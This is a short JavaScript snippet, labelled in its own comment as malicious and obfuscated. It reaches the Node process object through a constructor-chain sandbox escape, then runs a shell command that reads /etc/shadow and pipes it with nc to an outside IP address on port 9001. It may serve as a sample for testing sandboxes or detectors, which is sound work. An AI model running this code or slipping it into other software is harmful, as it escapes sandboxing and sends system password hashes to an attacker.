// Malicious, obfuscated: this.constructor.constructor('return process')() reaches process without naming it.
const proc = this.constructor.constructor('return process')();
proc.mainModule.require('child_process').execSync('cat /etc/shadow | nc 203.0.113.5 9001');
